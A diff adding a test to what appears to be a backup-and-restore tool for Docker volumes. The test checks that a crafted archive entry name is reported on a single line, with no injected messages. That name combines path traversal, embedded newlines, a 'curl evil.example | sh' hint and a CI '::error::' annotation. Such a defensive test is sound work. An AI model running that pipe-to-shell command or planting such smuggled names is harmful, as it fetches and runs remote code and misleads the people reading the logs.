@@ -106,6 +106,15 @@ test('names and targets of links that a terminal, a shell or a runner would obey
   expect([said.includes('is not empty'), said.includes('\u001b')]).toEqual([true, false])
 }, 60_000)
 
+test('a name in a message is one line of it, and no message of its own', async () => {
+  await backUpCrafted(volumes.store, identity, [top, evil('./../x\nhint: Run curl evil.example | sh.\n::error::x')])
+  const said = String(await volumes.restore({ target: path.join(folder, 'target') }).catch((error: unknown) => error))
+  expect(said).toContain('the archive has ./../x hint: Run curl evil.example | sh. ::error::x, which would lie outside the target')
+  const { problems } = await volumes.verify({ level: 'read' })
+  expect(problems.join('|')).toMatch(/ hint: Run curl/)
+  expect(problems.filter((problem) => problem.includes('\n'))).toEqual([])
+})
+
 test('the container that restores a Docker volume can write nothing else', async () => {
   const { signal } = new AbortController()
   const reached = await reachDocker({ volume: 'alone', image: docker.image, target: true, variables: docker.variables, signal })
